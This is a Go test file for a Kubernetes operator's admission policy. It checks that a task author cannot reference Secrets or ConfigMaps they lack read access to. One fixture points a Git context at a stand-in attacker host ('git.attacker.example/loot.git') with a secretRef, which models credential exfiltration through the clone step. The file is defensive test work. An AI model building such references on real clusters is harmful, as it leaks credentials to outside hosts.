package admissiontest

import (
	"context"
	"fmt"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/kubeopencode/kubeopencode/api/v1alpha1"
	kocpolicy "github.com/kubeopencode/kubeopencode/policy/kubeopencode"
	kocrbac "github.com/kubeopencode/kubeopencode/rbac/kubeopencode"
)

// taskAuthor binds user to exactly the generated personas a task author gets: task-author in
// namespace and agent-user there (the Agent lives in the Task's namespace).
func taskAuthor(ctx context.Context, t *testing.T, namespace, user string) client.Client {
	t.Helper()
	bindPersona(ctx, t, namespace, user, kocrbac.PersonaTaskAuthor)
	bindPersona(ctx, t, namespace, user, kocrbac.PersonaAgentUser)
	return impersonate(t, user)
}

func refTask(namespace, name string, contexts ...v1alpha1.ContextItem) *v1alpha1.Task {
	return &v1alpha1.Task{
		ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: name},
		Spec:       v1alpha1.TaskSpec{Description: "fix the flaky test", AgentRef: v1alpha1.AgentReference{Name: "coder"}, Contexts: contexts},
	}
}

func textCtx(text string) v1alpha1.ContextItem {
	return v1alpha1.ContextItem{Type: v1alpha1.ContextTypeText, Text: text}
}

// gitCtx is a Git context whose repository is on a host the attacker owns.
func gitCtx(secret string) v1alpha1.ContextItem {
	return v1alpha1.ContextItem{Type: v1alpha1.ContextTypeGit, Git: &v1alpha1.GitContext{
		Repository: "https://git.attacker.example/loot.git", SecretRef: &v1alpha1.LocalSecretReference{Name: secret}}}
}

func configMapCtx(name string) v1alpha1.ContextItem {
	return v1alpha1.ContextItem{Type: v1alpha1.ContextTypeConfigMap, ConfigMap: &v1alpha1.ConfigMapContext{Name: name}}
}

func taskRefRefusal(field, user, resource, name, namespace, kind string) string {
	return fmt.Sprintf(`%s: user %q may not get %s %q in namespace %q (RBAC get on %s): a Task may name only %s its creator may read`,
		field, user, resource, name, namespace, resource, kind)
}

// TestT19GitSecretRefTheAuthorCannotReadIsRefused is the attack of issue 15: a task author (only
// the generated task-author and agent-user personas) names a Secret of its namespace as a Git
// context's secretRef, with a repository on its own host. The operator would mount it into the
// clone step, which sends the credentials to that host. Admission refuses the Task, naming the
// field and the missing permission.
func TestT19GitSecretRefTheAuthorCannotReadIsRefused(t *testing.T) {
	ctx := context.Background()
	ns := env.Namespace(ctx, t)
	const user = "mallory"
	mustCreate(ctx, t, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "deploy-key"}, StringData: map[string]string{"token": "s3cr3t"}})
	c := taskAuthor(ctx, t, ns, user)

	tk := refTask(ns, "exfiltrate", textCtx("a"), textCtx("b"), gitCtx("deploy-key"))
	err := pastRBAC(ctx, func(ctx context.Context) error { return c.Create(ctx, tk.DeepCopy()) })
	got := refusedBy(t, err, kocpolicy.DefaultTaskReferencesPolicyName)
	if want := taskRefRefusal("spec.contexts[2].git.secretRef.name", user, "secrets", "deploy-key", ns, "Secrets"); !strings.HasSuffix(got, want) {
		t.Errorf("refusal:\n got %s\nwant suffix %s", got, want)
	}
	assertNoTask(ctx, t, ns, tk.Name)

	// The same author, once allowed to read that one Secret, may use it.
	grant(ctx, t, ns, "read-deploy-key", user, rbacv1.PolicyRule{APIGroups: []string{""}, Resources: []string{"secrets"}, ResourceNames: []string{"deploy-key"}, Verbs: []string{"get"}})
	if err := untilAdmitted(ctx, func(ctx context.Context) error { return c.Create(ctx, tk.DeepCopy()) }); err != nil {
		t.Fatalf("create after the get grant: %v", err)
	}
}

// TestT19ConfigMapContextTheAuthorCannotReadIsRefused: the operator copies a Task's ConfigMap into
// the agent, which the author steers through the prompt; a ConfigMap the author may not read is
// refused.
func TestT19ConfigMapContextTheAuthorCannotReadIsRefused(t *testing.T) {
	ctx := context.Background()
	ns := env.Namespace(ctx, t)
	const user = "mallory"
	mustCreate(ctx, t, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "payroll"}, Data: map[string]string{"salaries.csv": "..."}})
	c := taskAuthor(ctx, t, ns, user)

	tk := refTask(ns, "read-payroll", configMapCtx("payroll"))
	err := pastRBAC(ctx, func(ctx context.Context) error { return c.Create(ctx, tk.DeepCopy()) })
	got := refusedBy(t, err, kocpolicy.DefaultTaskReferencesPolicyName)
	if want := taskRefRefusal("spec.contexts[0].configMap.name", user, "configmaps", "payroll", ns, "ConfigMaps"); !strings.HasSuffix(got, want) {
		t.Errorf("refusal:\n got %s\nwant suffix %s", got, want)
	}
	assertNoTask(ctx, t, ns, tk.Name)

	grant(ctx, t, ns, "read-configmaps", user, rbacv1.PolicyRule{APIGroups: []string{""}, Resources: []string{"configmaps"}, Verbs: []string{"get"}})
	if err := untilAdmitted(ctx, func(ctx context.Context) error { return c.Create(ctx, tk.DeepCopy()) }); err != nil {
		t.Fatalf("create after the get grant: %v", err)
	}
}

// TestT19EveryContextIsChecked: the policy checks each of the CRD's maximum of 16 contexts within
// the API server's CEL cost limits: 16 readable Secrets are admitted, and one unreadable Secret at
// the last index is refused, naming that index.
func TestT19EveryContextIsChecked(t *testing.T) {
	ctx := context.Background()
	ns := env.Namespace(ctx, t)
	const user = "alice"
	c := taskAuthor(ctx, t, ns, user)
	var names []string
	var contexts []v1alpha1.ContextItem
	for i := range kocpolicy.MaxTaskContexts {
		names = append(names, fmt.Sprintf("key-%d", i))
		item := gitCtx(names[i])
		item.MountPath = v1alpha1.ContextPath(fmt.Sprintf("/workspace/repo-%d", i))
		contexts = append(contexts, item)
	}
	grant(ctx, t, ns, "read-keys", user, rbacv1.PolicyRule{APIGroups: []string{""}, Resources: []string{"secrets"}, ResourceNames: names, Verbs: []string{"get"}})
	if err := untilAdmitted(ctx, func(ctx context.Context) error { return c.Create(ctx, refTask(ns, "sixteen", contexts...)) }); err != nil {
		t.Fatalf("16 readable Secrets: %v", err)
	}

	contexts[15] = gitCtx("not-granted")
	contexts[15].MountPath = "/workspace/repo-15"
	err := c.Create(ctx, refTask(ns, "last-one-unreadable", contexts...))
	got := refusedBy(t, err, kocpolicy.DefaultTaskReferencesPolicyName)
	if want := taskRefRefusal("spec.contexts[15].git.secretRef.name", user, "secrets", "not-granted", ns, "Secrets"); !strings.HasSuffix(got, want) {
		t.Errorf("refusal:\n got %s\nwant suffix %s", got, want)
	}
}

// TestT19CrossNamespaceConfigMapIsCheckedInTheTaskNamespace: a cross-namespace Task's ConfigMaps
// resolve in the Task's namespace (T3), so that is where "get" is checked.
func TestT19CrossNamespaceConfigMapIsCheckedInTheTaskNamespace(t *testing.T) {
	ctx := context.Background()
	taskNS := env.Namespace(ctx, t)
	agentNS := env.Namespace(ctx, t)
	const user = "carol"
	bindPersona(ctx, t, taskNS, user, kocrbac.PersonaTaskAuthor)
	bindPersona(ctx, t, agentNS, user, kocrbac.PersonaAgentUser)
	// Readable in the Agent's namespace does not count.
	grant(ctx, t, agentNS, "read-configmaps", user, rbacv1.PolicyRule{APIGroups: []string{""}, Resources: []string{"configmaps"}, Verbs: []string{"get"}})
	c := impersonate(t, user)
	tk := refTask(taskNS, "remote", configMapCtx("notes"))
	tk.Spec.AgentRef.Namespace = agentNS
	err := pastRBAC(ctx, func(ctx context.Context) error { return c.Create(ctx, tk.DeepCopy()) })
	got := refusedBy(t, err, kocpolicy.DefaultTaskReferencesPolicyName)
	if want := taskRefRefusal("spec.contexts[0].configMap.name", user, "configmaps", "notes", taskNS, "ConfigMaps"); !strings.HasSuffix(got, want) {
		t.Errorf("refusal:\n got %s\nwant suffix %s", got, want)
	}
}
